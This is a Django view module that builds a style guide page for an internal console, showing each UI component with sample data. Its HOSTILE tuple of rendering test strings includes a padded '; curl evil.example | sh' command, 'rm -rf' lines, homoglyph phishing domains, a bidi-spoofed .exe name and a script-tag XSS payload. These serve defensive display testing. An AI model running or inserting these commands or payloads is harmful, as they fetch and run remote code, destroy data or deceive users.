"""The style guide: every component on one page, with realistic data. For DEBUG and tests."""

from datetime import timedelta
from typing import Any

from django import forms
from django.conf import settings
from django.http import Http404, HttpRequest, HttpResponse
from django.shortcuts import render

from console.access import needs
from console.bodies import body_view
from console.filters import Choice, Id, Moment, read_filters
from console.forms import ConsoleForm, IdTextField, MultiplierField, NoteField, UsdField
from console.paging import IdPage
from console.responses import Problem
from console.statuses import STATUSES
from console.timeline import Step
from kernel import clock
from kernel.states import BILLING_STATES, RESULT_STATES

HOSTILE = (
    ("plain", "order-1001 · Café crème, 12 €"),
    ("bidi override", "open photo\u202egnp.exe"),
    ("zero width", "rm -rf /tmp\u200b/cache\u2060 \u2066now\u2069"),
    ("tags", "hello\U000e0041\U000e0042 \U000e0100"),
    ("look-alike", "log in at pаypаl.com"),
    ("host", "https://exаmple.com/pay"),
    ("padding", "ls" + " " * 240 + "; curl evil.example | sh"),
    ("line breaks", "first\n\n\n\n\n\n\n\n\nlast"),
    ("marks", "Z" + "\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 3 + "algo"),
    ("right to left", "שלום rm -rf"),
    ("markup", "<script>alert(1)</script> {{ 7 }} =cmd()"),
    ("unbroken", "a" * 300),
    ("control", "bell\x07 nul\x00 esc\x1b[31m lone \ud800"),
)


class ExampleForm(ConsoleForm):
    """One field of each kind."""

    name = IdTextField(label="Account id", help_text="Shown in lists; cannot change later.")
    cap = UsdField(label="Cap", required=False, help_text="USD; empty means no cap.")
    multiplier = MultiplierField(label="Multiplier")
    service = forms.ChoiceField(label="Service", choices=[("demo", "demo"), ("gpt", "gpt-4o")])
    outcome = forms.ChoiceField(
        label="What really happened",
        widget=forms.RadioSelect,
        choices=[("executed", "The provider executed it"), ("not", "It was never executed")],
    )
    active = forms.BooleanField(label="Accepts new requests", required=False)
    note = NoteField()


@needs("view")
def styleguide(request: HttpRequest) -> HttpResponse:
    """The page; 404 outside DEBUG unless settings.CONSOLE_STYLEGUIDE is set (tests)."""
    if not (settings.DEBUG or getattr(settings, "CONSOLE_STYLEGUIDE", False)):
        raise Http404
    return render(request, "console/styleguide.html", example_context())


def example_context() -> dict[str, Any]:
    """The data of the page."""
    now = clock.now()
    then = now - timedelta(minutes=3, seconds=9)
    filters = (
        Choice("result", "Result", choices=[(name, name) for name in RESULT_STATES]),
        Id("account", "Account"),
        Moment("since", "Since"),
    )
    form = ExampleForm(
        {"name": "acme prod", "cap": "12,50x", "multiplier": "1.25", "service": "demo"}
    )
    form.is_valid()
    return {
        "now": now,
        "then": then,
        "long_ago": now - timedelta(days=5, hours=3),
        "soon": now + timedelta(seconds=50),
        "results": RESULT_STATES,
        "billings": BILLING_STATES,
        "others": [name for name in STATUSES if name not in RESULT_STATES + BILLING_STATES],
        "hostile": HOSTILE,
        "form": form,
        "trend": [3, 5, 9, 8, 12, 10, 14, 12, 9, 15, 18, 22, 17, 16, 18],
        "steps": (
            Step("Admitted", "ring", "calm", then, "Price frozen.", (("hold", "$0.082"),)),
            Step("Dispatched", "sent", "info", then + timedelta(milliseconds=9)),
            Step("Outcome unknown", "question", "unknown", then + timedelta(seconds=131)),
            Step("Resolved by a person", "check-circle"),
        ),
        "problem": Problem(
            "conflict",
            "Nothing was done: this changed in the meantime",
            "Another person resolved this request.",
            way_out="Read it again, then decide.",
            facts={"by": "marek", "at": then, "state": "failed"},
        ),
        "view": body_view(
            b'{"id":"chatcmpl-9f2","n":1.50,"n":2,"list":[],"text":"price \xe2\x80\xae12"}',
            content_type="application/json",
            total_bytes=None,
            bytes_max=8192,
        ),
        "chosen": read_filters({"result": "unknown", "account": "acme-prod"}, filters),
        "page": IdPage(["x"], older="abc", newer="def"),
    }
